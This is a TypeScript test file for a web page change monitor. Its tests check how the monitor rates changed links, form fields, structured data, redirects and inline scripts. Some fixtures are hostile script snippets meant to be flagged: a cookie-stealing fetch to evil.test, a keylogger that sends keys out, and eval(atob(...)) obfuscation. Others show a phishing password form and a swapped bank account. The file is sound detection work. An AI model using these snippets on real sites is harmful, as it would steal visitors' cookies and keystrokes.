import { describe, expect, test } from "vitest";
import { compare, learnFromConfirmation } from "../compare.ts";
import { emptyMemory } from "../noise-memory/noise-memory.ts";
import { snapshotOf } from "../snapshot/create-snapshot.ts";
import type { Snapshot } from "../snapshot/snapshot.ts";

const words = `<h1>House rules</h1><p>Guests keep the kitchen clean and lock the door when they leave.</p>
<p>The deposit of 200 € is paid back after the last check of the rooms.</p>`;

function page(main: string, { head = "", afterMain = "" } = {}): Snapshot {
  const html = `<!doctype html><html><head><title>Rules</title>${head}</head><body><main>${words}${main}</main>${afterMain}</body></html>`;
  return snapshotOf(html, "html", "https://www.house.test/rules");
}

/** Reasons as "severity: summary". */
function reasonsOf(before: Snapshot, after: Snapshot, memory = emptyMemory()): string[] {
  return compare(before, after, memory).verdict.reasons.map(
    ({ severity, summary }) => `${severity}: ${summary}`,
  );
}

const nav = (html: string) => ({ afterMain: `<nav>${html}</nav>` });

test("a script made of known statements is not new; one with an additional statement is", () => {
  const [go, send] = ["if (a) { location.href = b }", "navigator.sendBeacon(log, c)"];
  const more = Array.from({ length: 9 }, (_, at) => `define('part${at}', f${"x".repeat(at)})`).join(";");
  const script = (code: string) => page("", { head: `<script>${code}</script>` });
  expect(reasonsOf(script(`${go};${more};${send}`), script(`${send};${go}`))).toEqual([]);
  expect(reasonsOf(script(`${go};${more}`), script(`${go};${send}`))).toEqual([
    "important: New inline script: sends data out",
  ]);
});

describe("links", () => {
  const uuid = (digit: string) => `/files/3f2b1c9e-7a64-4d0f-9b1a-5c8e2d7f601${digit}`;
  const list = (prefix: string, names = "abcde") =>
    [...names].map((name) => `<a href="${prefix}/${name}">To ${name}</a>`).join(" ");
  const cases: [string, Snapshot, Snapshot, string[]][] = [
    [
      "a link takes the target of another link",
      page('<a href="/a">One</a> <a href="/b">Two</a>'),
      page('<a href="/b">One</a> <a href="/b">Two</a>'),
      ["notice: Link “One” leads elsewhere"],
    ],
    [
      "two links swap their targets",
      page('<a href="/a">One</a> <a href="/b">Two</a>'),
      page('<a href="/b">One</a> <a href="/a">Two</a>'),
      ["notice: Link “One” leads elsewhere; Link “Two” leads elsewhere"],
    ],
    [
      "words become a link",
      page("<p>Read the terms before you pay.</p>"),
      page('<p>Read the <a href="/terms">terms</a> before you pay.</p>'),
      ["notice: “terms” is now a link"],
    ],
    [
      "a link becomes plain words",
      page('<p>Read the <a href="/terms">terms</a> before you pay.</p>'),
      page("<p>Read the terms before you pay.</p>"),
      ["notice: “terms” is no longer a link"],
    ],
    [
      "a link covers other words of the same sentence",
      page('<p>Read <a href="/terms">the terms</a> of use.</p>'),
      page('<p>Read the <a href="/terms">terms of use</a>.</p>'),
      ["notice: Link is now “terms of use”"],
    ],
    [
      "a link without a target gets one",
      page('<a href="#">Buy</a>'),
      page('<a href="/buy">Buy</a>'),
      ["notice: Link “Buy” leads elsewhere"],
    ],
    [
      "a link changes from HTTPS to HTTP",
      page('<a href="https://pay.house.test/in">Pay</a>'),
      page('<a href="http://pay.house.test/in">Pay</a>'),
      ["notice: Link “Pay” is no longer encrypted"],
    ],
    [
      "links with generated names lead to other documents",
      page(`<a href="${uuid("1")}.pdf">Report</a> <a href="${uuid("2")}">Annex</a>`),
      page(`<a href="${uuid("3")}.pdf">Report</a> <a href="${uuid("4")}">Annex</a>`),
      ["notice: Link “Report” leads elsewhere; Link “Annex” leads elsewhere"],
    ],
    [
      "the query of a link names another item",
      page('<a href="/show?id=17">Plan</a>'),
      page('<a href="/show?id=18">Plan</a>'),
      ["notice: Link “Plan” leads elsewhere"],
    ],
    [
      "a menu link to another path of the same host is a notice",
      page("", nav('<a href="/a">One</a>')),
      page("", nav('<a href="/b">One</a>')),
      ["notice: Link “One” leads elsewhere"],
    ],
    [
      "a menu link to another host is a notice",
      page('<a href="https://a.partner.example/">P</a>', nav('<a href="/a">One</a>')),
      page('<a href="https://a.partner.example/">P</a>', nav('<a href="https://b.partner.example/">One</a>')),
      ["notice: Link “One” leads to b.partner.example"],
    ],
    [
      "a new language in all links is one reason",
      page("", nav(list("/en"))),
      page("", nav(list("/de"))),
      ["info: 5 links lead to another language or country: /en → /de"],
    ],
    [
      "a new country in content links and another in menu links are one reason each",
      page(list("/fr-fr"), nav(list("/fr", "vwxyz"))),
      page(list("/fr-ch"), nav(list("/fr-fr", "vwxyz"))),
      [
        "info: 5 links lead to another language or country: /fr-fr → /fr-ch",
        "info: 5 links lead to another language or country: /fr → /fr-fr",
      ],
    ],
    [
      "a changed token in a link's address is not reported",
      page('<a href="/a?x_token=eyJ0eXBlIjowLCJjcmVhdGlvbl90aW1lIjoxNzY2%3D%3D">Sign up</a>'),
      page('<a href="/a?x_token=eyJ0eXBlIjowLCJjcmVhdGlvbl90aW1lIjoxOTg3%3D%3D">Sign up</a>'),
      [],
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reasons) => {
    expect(reasonsOf(before, after)).toEqual(reasons);
  });

  test("a link target that differs between a capture and its confirmation is listed as noise", () => {
    const shown = (to: string) => page(`<a href="/offer/${to}">Offer of the hour</a>`);
    const memory = learnFromConfirmation(shown("lamp"), shown("desk"), emptyMemory());
    const { changed, ignored } = compare(shown("lamp"), shown("sofa"), memory).verdict;
    expect(changed).toBe(false);
    expect(ignored).toContainEqual(expect.objectContaining({ why: "learned", after: "/offer/sofa" }));
  });

  test("a link target that goes back and forth is alerted once, then in the digest", () => {
    let memory = emptyMemory();
    const shown = (to: string) => page(`<a href="/${to}">Apply</a>`);
    const steps = ["a", "b", "a", "b", "a", "b", "a"].map(shown);
    for (let at = 1; at < steps.length; at++) {
      const result = compare(steps[at - 1] as Snapshot, steps[at] as Snapshot, memory);
      memory = result.memory;
      expect(result.verdict).toMatchObject({ changed: true, folded: at > 1 });
    }
  });
});

describe("changes without visible words", () => {
  const data = (price: string, availability: string) =>
    `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Lamp","offers":{"@type":"Offer","price":${price},"availability":"https://schema.org/${availability}"}}</script>`;
  const cases: [string, Snapshot, Snapshot, string[]][] = [
    [
      "a control is enabled",
      page("<button disabled>Buy</button>"),
      page("<button>Buy</button>"),
      ["notice: “Buy” is no longer disabled"],
    ],
    [
      "a control is disabled for screen readers",
      page('<a role="button" aria-disabled="false">Buy</a>'),
      page('<a role="button" aria-disabled="true">Buy</a>'),
      ["notice: “Buy” is now disabled"],
    ],
    [
      "another option is selected",
      page("<select><option selected>Red</option><option>Blue</option></select>"),
      page("<select><option>Red</option><option selected>Blue</option></select>"),
      ["notice: “Red” is no longer selected; “Blue” is now selected"],
    ],
    [
      "a checkbox is checked",
      page('<input type="checkbox" name="news">'),
      page('<input type="checkbox" name="news" checked>'),
      ["notice: “news” is now checked"],
    ],
    [
      "a field has another value",
      page('<input name="fee" value="10 €">'),
      page('<input name="fee" value="12 €">'),
      ["notice: Field “fee” now holds “12 €”"],
    ],
    [
      "a field loses its value",
      page('<input name="fee" value="10 €">'),
      page('<input name="fee" value="">'),
      ["notice: Field “fee” is now empty"],
    ],
    [
      "a text area without a name loses its text",
      page("<textarea>Ask us about the bridge.</textarea>"),
      page("<textarea></textarea>"),
      ["notice: A field is now empty"],
    ],
    [
      "an image has another alternative text",
      page('<img alt="In stock" src="/a.png">'),
      page('<img alt="Sold out" src="/a.png">'),
      ["notice: Screen readers now say “Sold out”"],
    ],
    [
      "an element has another ARIA label",
      page('<i aria-label="Open"></i>'),
      page('<i aria-label="Closed"></i>'),
      ["notice: Screen readers now say “Closed”"],
    ],
    [
      "text in an SVG changes",
      page("<svg><text>Open today</text></svg>"),
      page("<svg><text>Closed today</text></svg>"),
      ["notice: “Open today” → “Closed today”"],
    ],
    [
      "the availability in JSON-LD changes, while the price is only written differently",
      page("", { head: data("9.00", "InStock") }),
      page("", { head: data('"9"', "OutOfStock") }),
      ["notice: availability of Product Lamp is now out of stock, was in stock"],
    ],
    [
      "a microdata price changes",
      page('<meta itemprop="price" content="10.00">'),
      page('<meta itemprop="price" content="12.00">'),
      ["notice: price is now 12.00, was 10.00"],
    ],
    [
      "the robots meta element becomes noindex",
      page("", { head: '<meta name="robots" content="index, follow">' }),
      page("", { head: '<meta name="robots" content="noindex">' }),
      ["notice: Meta robots is now “noindex”"],
    ],
    [
      "the canonical address moves to another host",
      page("", { head: '<link rel="canonical" href="https://www.house.test/rules">' }),
      page("", { head: '<link rel="canonical" href="https://clone.example/rules">' }),
      ["important: Canonical address is now https://clone.example/rules"],
    ],
    [
      "another selected option of a navigation drop-down is not reported",
      page('<select><option value="/a" selected>Here</option><option value="/b">There</option></select>'),
      page('<select><option value="/a">Here</option><option value="/b" selected>There</option></select>'),
      [],
    ],
    [
      "a rotating picture, recognized by its element's id, is only info",
      page('<a id="adRotator2" href="/air"><img src="/air.png" alt="Air today"></a>'),
      page('<a id="adRotator2" href="/water"><img src="/water.png" alt="Water today"></a>'),
      ["info: 1 link was removed", "info: 1 link was added", "info: Screen readers now say “Water today”"],
    ],
    [
      "a control in a menu is only info",
      page("", nav("<button disabled>Buy</button>")),
      page("", nav("<button>Buy</button>")),
      ["info: “Buy” is no longer disabled"],
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reasons) => {
    expect(reasonsOf(before, after)).toEqual(reasons);
  });
});

test("a date in structured data, which no reader sees, goes to the digest", () => {
  const at = (modified: string): Snapshot =>
    page("", {
      head: `<script type="application/ld+json">{"@type":"WebPage","dateModified":"${modified}"}</script>`,
    });
  const { folded, reasons } = compare(
    at("2026-01-20T08:00:00Z"),
    at("2026-03-05T08:00:00Z"),
    emptyMemory(),
  ).verdict;
  expect({ folded, summaries: reasons.map(({ summary }) => summary) }).toEqual({
    folded: true,
    summaries: ["dateModified of WebPage is now 2026-03-05T08:00:00Z, was 2026-01-20T08:00:00Z"],
  });
});

describe("severity", () => {
  const status = (code: number) => ({ ...page(""), status: code });
  const form = (action: string, fields: string) =>
    page(`<form action="${action}" method="post">${fields}</form>`);
  const cases: [string, Snapshot, Snapshot, string][] = [
    ["an endpoint opens", status(403), status(200), "critical: Status 403 → 200"],
    ["an endpoint closes", status(200), status(404), "important: Status 200 → 404"],
    ["a server recovers", status(503), status(200), "important: Status 503 → 200"],
    [
      "a form that sends to another host now asks for a password",
      form("https://lists.partner.example/", '<input name="mail">'),
      form("https://lists.partner.example/", '<input type="password" name="pw">'),
      "critical: New form asks for a password and sends it to lists.partner.example",
    ],
    [
      "a form asks for more fields",
      form("/order", '<input name="mail">'),
      form("/order", '<input name="mail"><input name="card">'),
      "notice: Form now asks for mail, card",
    ],
    [
      "a form sends to another path of the same host",
      form("/order", '<input name="mail">'),
      form("/take", '<input name="mail">'),
      "notice: Form sends elsewhere",
    ],
    [
      "a bank account in a sentence is replaced",
      page("<p>Pay to DE89 3704 0044 0532 0130 00 before Monday.</p>"),
      page("<p>Pay to GB29 NWBK 6016 1331 9268 19 before Monday.</p>"),
      "important: Contact is now GB29 NWBK 6016 1331 9268 19",
    ],
    [
      "the response gets a Refresh header to another host",
      { ...page(""), headers: [["server", "x"]] },
      {
        ...page(""),
        headers: [
          ["server", "x"],
          ["refresh", "0; url=https://else.example/"],
        ],
      },
      "critical: Answer now leads on: 0; url=https://else.example/",
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reason) => {
    expect(reasonsOf(before, after)).toContain(reason);
  });
});

describe("markup of real pages", () => {
  test("text after an unclosed head is compared", () => {
    const open = (text: string) =>
      snapshotOf(
        `<html><head><title>T</title><meta charset=utf-8><div><p>${text}</p></div>`,
        "html",
        "https://www.house.test/",
      );
    expect(reasonsOf(open("Guests lock the door."), open("Guests open the door."))).toEqual([
      "notice: “Guests” lock → open",
    ]);
  });

  test("a page whose text can't be read is reported as important", () => {
    const unread = snapshotOf(
      "<template><p>Guests lock the door.</p></template>",
      "html",
      "https://www.house.test/",
    );
    const summary = "The page has text, but none of it could be read";
    expect(reasonsOf(page(""), unread)).toContain(`important: ${summary}`);
    expect(reasonsOf(unread, { ...unread, html: `${unread.html} ` })).toEqual([`info: ${summary}`]);
  });

  test("comments and vocabulary names in scripts don't count as hosts", () => {
    const script = (code: string) => page("", { head: `<script>${code}</script>` });
    const code = `var a=1; //window.open\n el.createElementNS("http://www.w3.org/2000/svg","g"); go({"@context":"https://schema.org"})`;
    expect(reasonsOf(script("var a=1;"), script(code))).toEqual([]);
    expect(reasonsOf(script("var a=1;"), script('go("//cdn.else.example/x")'))).toEqual([
      "critical: Inline script names a new host cdn.else.example",
    ]);
  });

  test("a refresh to another host is reported even next to a reload and with another meta name", () => {
    const reload = '<meta http-equiv="refresh" content="1200">';
    const away = '<meta name="viewport" http-equiv="Refresh" content="0;url=https://else.example/">';
    expect(reasonsOf(page("", { head: reload }), page("", { head: reload + away }))).toEqual([
      "critical: Page now leads to else.example",
    ]);
    expect(reasonsOf(page("", { head: reload + away }), page("", { head: away + reload }))).toEqual([]);
    expect(reasonsOf(page(""), page("", { head: reload }))).toEqual([]);
  });

  test("a refresh inside noscript is critical only if it leads to another host", () => {
    const refresh = (url: string) =>
      page("", { head: `<noscript><meta http-equiv="refresh" content="0;url=${url}"></noscript>` });
    expect(reasonsOf(page(""), refresh("/no-scripts"))).toEqual([
      "info: Page now leads to /no-scripts where scripts are off",
    ]);
    expect(reasonsOf(page(""), refresh("https://else.example/"))).toEqual([
      "critical: Page now leads to else.example",
    ]);
  });

  test("a script that listens to keys and sends nothing is not reported", () => {
    const script = (code: string) => page("", { head: `<script>var a=1;</script><script>${code}</script>` });
    expect(
      reasonsOf(script(""), script('box.addEventListener("keydown",function(e){box.open=e.key!="Escape"})')),
    ).toEqual([]);
    expect(
      reasonsOf(script(""), script('box.addEventListener("keydown",function(e){img.src="/p?"+e.key})')),
    ).toEqual(["important: New inline script: listens to forms or keys"]);
  });
});

describe("a new inline script", () => {
  const script = (code: string) => page("", { head: `<script>${code}</script>` });
  const load = (host: string) =>
    `(function(d){var s=d.createElement("script");s.src="https://${host}/w.js";d.head.appendChild(s)})(document)`;

  test("is not reported when it only loads a known service", () => {
    expect(reasonsOf(page(""), script(load("survey.survicate.com")))).toEqual([]);
  });

  test.for([
    [
      "calls another host as well",
      `${load("survey.survicate.com")};fetch("https://evil.test/?"+document.cookie)`,
    ],
    ["reads typed keys", `${load("survey.survicate.com")};addEventListener("keydown",e=>fetch("/k?"+e.key))`],
    ["hides its code", `${load("survey.survicate.com")};eval(atob("YWxlcnQoMSk="))`],
    ["names no host", 'var s=document.createElement("script");s.src=where()'],
  ] satisfies [string, string][])("is reported when it %s", ([, code]) => {
    expect(reasonsOf(page(""), script(code))).toEqual([expect.stringMatching(/^(?:important|critical): /)]);
  });
});

describe("behavior of an inline script", () => {
  const script = (code: string) => page("", { head: `<script>var a=1;</script><script>${code}</script>` });
  const reasonsFor = (code: string, before = "") => reasonsOf(script(before), script(code));
  const host = "critical: Inline script names a new host credits.example";
  const sends = "important: New inline script: sends data out";

  test("hosts named in comments don't count as hosts that the script calls", () => {
    const credits = "/* @license http://credits.example/LICENSE.txt */ start(1)";
    expect(reasonsFor(credits)).toEqual([]);
    expect(reasonsFor(`${credits}; go("http://credits.example/x")`)).toEqual([host]);
    expect(reasonsFor('var r=/"/, s="/*"; go("//credits.example/x"); /* " */')).toEqual([host]);
    expect(reasonsFor('// broken\n if ( go("//credits.example/x")')).toEqual([host]);
  });

  test("getting the global object doesn't count as running text as code", () => {
    expect(reasonsFor('var g=new Function("return this")();')).toEqual([]);
    expect(reasonsFor('var g=new Function("return this;"+x)();')).toEqual([
      "important: New inline script: runs text as code",
    ]);
  });

  test("a bundle loader with other minified names is the same script", () => {
    const loader = (...names: string[]) => {
      const [a, b, c] = names;
      const parts = "alpha beta gamma delta epsilon zeta theta iota kappa lambda sigma omega tau upsilon"
        .split(" ")
        .map((part, at) => `${a}.${part}=${names[at % 3]}${at};`);
      return `var ${a}={},${b},${c};${parts.join("")}${b}=document.createElement("script");${b}.charset="utf-8";${b}.timeout=120;${b}.onload=${b}.onerror=${c};document.head.appendChild(${b})`;
    };
    const short = loader("e", "r", "o");
    const renamed = `${loader("t9", "n4", "q7").replace("var t9={}", "var t9={},x1,x2,x3")};${Array.from({ length: 90 }, (_, at) => `t9.m${at}=n4${at}`).join(";")}`;
    expect(reasonsFor(renamed, short)).toEqual([]);
    expect(reasonsFor(`${renamed};fetch(where)`, short)).toEqual([sends]);
  });

  test("sending measurements to the own site or loading its own scripts is not reported", () => {
    const measure = 'var u=new URL("/t/paint",location.origin);navigator.sendBeacon(u)';
    const load = (from: string) =>
      `var s=document.createElement("script");s.src=${from};document.head.appendChild(s)`;
    expect(reasonsFor(measure)).toEqual([]);
    expect(reasonsFor(`${measure};${load('"/js/more.js"')}`)).toEqual([]);
    expect(reasonsFor(load('"/js/"+where'))).toEqual([]);
    for (const from of ['"//"+where', '"/"+"/where.example/x"', '"/js/x.js?"+where+"a.test"'])
      expect(reasonsFor(load(from))).toEqual(["important: New inline script: loads a script"]);
    expect(reasonsFor('var u=["//a","b.exam"].join("")+"/t/paint";navigator.sendBeacon(u)')).toEqual([sends]);
    expect(reasonsFor(`${measure};var v=field.value`)).toEqual([sends]);
    expect(reasonsFor(`${measure};var v=new FormData(form)`)).toEqual([sends]);
    expect(reasonsFor(`${measure};var v=document.cookie`)).toEqual([sends]);
  });

  test("a key listener that reads no typed text is not reported", () => {
    const listens = "important: New inline script: listens to forms or keys";
    const onKeydown = (handler: string) =>
      `box.addEventListener("keydown",function(e){${handler}});img.src=next`;
    expect(reasonsFor(onKeydown("count++"))).toEqual([]);
    expect(reasonsFor(onKeydown("if(13===e.keyCode)box.click()"))).toEqual([]);
    expect(reasonsFor(onKeydown('if(e.key==="Enter")box.textContent=""'))).toEqual([]);
    expect(reasonsFor(onKeydown("all+=e.key"))).toEqual([listens]);
    expect(reasonsFor(onKeydown("if(13===e.keyCode)all+=box.value"))).toEqual([listens]);
  });

  test("a style sheet from the same bucket in another region is only info", () => {
    const style = (store: string) =>
      page("", { head: `<link rel="stylesheet" href="https://${store}.s3.amazonaws.com/a.css">` });
    expect(reasonsOf(style("files-us-east-1"), style("files-us-west-2"))).toEqual([
      "info: New style sheet host files-us-west-2.s3.amazonaws.com",
    ]);
    expect(reasonsOf(style("files-us-east-1"), style("fi1es-us-west-2"))).toEqual([
      "important: New style sheet host fi1es-us-west-2.s3.amazonaws.com",
    ]);
  });
});

describe("link targets", () => {
  const link = (href: string) => page(`<p>See <a href="${href}">the small print</a> first.</p>`);

  test("a generated number in a fragment is ignored; another fragment name or date is reported", () => {
    expect(reasonsOf(link("#part--818319741"), link("#part-1642061665"))).toEqual([]);
    expect(reasonsOf(link("#part-deposit"), link("#part-pets"))).toEqual([
      expect.stringContaining("leads elsewhere"),
    ]);
    expect(reasonsOf(link("#v20240512"), link("#v20260101"))).toEqual([
      expect.stringContaining("leads elsewhere"),
    ]);
  });

  const video = (id: string) => `https://www.youtube.com/watch?v=${id}`;
  const paper = (id: string) => `https://docs.example.com/document/d/${id}/edit`;
  test.each<[string, Snapshot, Snapshot, string[]]>([
    [
      "an id is what a link to another site leads to: a video",
      link(video("dQw4w9WgXcQ")),
      link(video("M7lc1UVf-VE")),
      ["notice: Link “the small print” leads elsewhere"],
    ],
    [
      "an id is what a link to another site leads to: a document",
      link(paper("1aB2cD3eF4gH5iJ6kL7mN8")),
      link(paper("9zY8cD3eF4gH5iJ6kL7mN8")),
      ["notice: Link “the small print” leads elsewhere"],
    ],
    [
      "an id in an address of the same site comes from the request",
      link("/print/1aB2cD3eF4gH5iJ6kL7mN8/x"),
      link("/print/9zY8cD3eF4gH5iJ6kL7mN8/x"),
      [],
    ],
    [
      "a picture without words that leads elsewhere is one link",
      page("", nav('<a href="/home"><img src="/logo.png"></a>')),
      page("", nav('<a href="/start"><img src="/logo.png"></a>')),
      ["notice: Link without words leads elsewhere"],
    ],
    [
      "a carousel's link with words that named one target is the same link",
      page("", nav('<div class="slider"><a href="/etfs">ETFs</a> <a href="/etfs">ETFs</a></div>')),
      page("", nav('<div class="slider"><a href="/etfs">ETFs</a> <a href="/lotto">ETFs</a></div>')),
      ["notice: Link “ETFs” leads elsewhere"],
    ],
    [
      "a carousel's links with words that name no target are exchanged",
      page("", nav('<div class="slider"><a href="/a">More</a> <a href="/b">More</a></div>')),
      page("", nav('<div class="slider"><a href="/c">More</a> <a href="/d">More</a></div>')),
      ["info: 2 links lead elsewhere"],
    ],
    [
      "a mail link on a picture that had none",
      page("", nav("<img src=/a.png>")),
      page("", nav('<a href="mailto:a@b.test"><img src=/a.png></a>')),
      ["notice: New mail link to a@b.test"],
    ],
    [
      "another link to a known contact, and one that only opens the mail program",
      page('<p><a href="mailto:a@b.test">Write to us</a></p>', nav("<img src=/a.png>")),
      page(
        '<p><a href="mailto:a@b.test">Write to us</a></p>',
        nav(
          '<a href="mailto:a@b.test"><img src=/a.png></a> <a href="mailto:?subject=x"><img src=/a.png></a>',
        ),
      ),
      ["info: 2 links were added"],
    ],
  ])("%s", (_name, before, after, reasons) => expect(reasonsOf(before, after)).toEqual(reasons));

  test("a new path of a campaign link is only info, a new host is important", () => {
    const offer = (where: string) => link(`https://shop.house.test/${where}?utm_source=footer`);
    expect(reasonsOf(offer("kettles"), offer("lamps"))).toEqual([expect.stringMatching(/^info: /)]);
    expect(reasonsOf(offer("kettles"), link("https://evil.test/lamps?utm_source=footer"))).toEqual([
      "important: Link “the small print” leads to evil.test",
    ]);
  });

  test("a mail address is reported when its obfuscation starts or ends, not when the key changes", () => {
    const obfuscated = (key: number) =>
      link(
        `/cdn-cgi/l/email-protection#${[key, ...[..."a@b.test"].map((char) => char.charCodeAt(0) ^ key)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`,
      );
    expect(reasonsOf(obfuscated(17), obfuscated(99))).toEqual([]);
    expect(reasonsOf(obfuscated(17), link("mailto:a@b.test"))).toEqual([
      "notice: Address a@b.test is now open to robots",
    ]);
    expect(reasonsOf(link("mailto:a@b.test"), obfuscated(17))).toEqual([
      "notice: Address a@b.test is now hidden from robots",
    ]);
  });

  test("links of a consent dialog that appears go to the digest; the same links elsewhere are important", () => {
    const dialog = `<div class="cookie-consent"><p>We use cookies with <a href="https://partner.test/">our partner</a>.</p><button>Accept all</button><button>Reject all</button></div>`;
    const { verdict } = compare(page(""), page("", { afterMain: dialog }), emptyMemory());
    expect(verdict).toMatchObject({ folded: true, severity: "notice" });
    const linkOnly = page("", { afterMain: '<p>With <a href="https://partner.test/">our partner</a>.</p>' });
    expect(compare(page(""), linkOnly, emptyMemory()).verdict).toMatchObject({
      folded: false,
      severity: "important",
    });
    const dialogWithoutLink = dialog.replace(/ with <a.*?<\/a>/, "");
    const result = compare(
      page("", { afterMain: dialogWithoutLink }),
      page("", { afterMain: dialog }),
      emptyMemory(),
    );
    expect(result.verdict).toMatchObject({ folded: false, severity: "important" });
  });
});
